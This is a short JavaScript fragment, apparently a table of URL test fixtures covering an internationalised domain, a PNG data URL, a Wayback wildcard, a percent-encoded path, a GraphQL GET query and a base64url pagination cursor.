B("misc", "raw-idn", "https://bücher.de/suche?q=straße");
B("misc", "data-png", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "1x1 PNG data URL");
B("misc", "wayback", "https://web.archive.org/web/20240101000000*/example.com/docs/*");
B("misc", "encoded-path", "https://example.com/files/Quarterly%20Report%20%E2%80%93%20Q2%202024.pdf");
B("misc", "graphql-get", `https://api.example.com/graphql?query=${enc("query Repo($owner:String!){repository(owner:$owner,name:\"web\"){stargazerCount}}")}&variables=${enc(JSON.stringify({ owner: "acme" }))}`, "GraphQL GET");
B("misc", "api-pagination-cursor", `https://api.example.com/v2/events?limit=100&cursor=${b64url(JSON.stringify({ id: 88123, ts: "2024-06-11T08:00:00Z" }))}`, "base64url cursor");
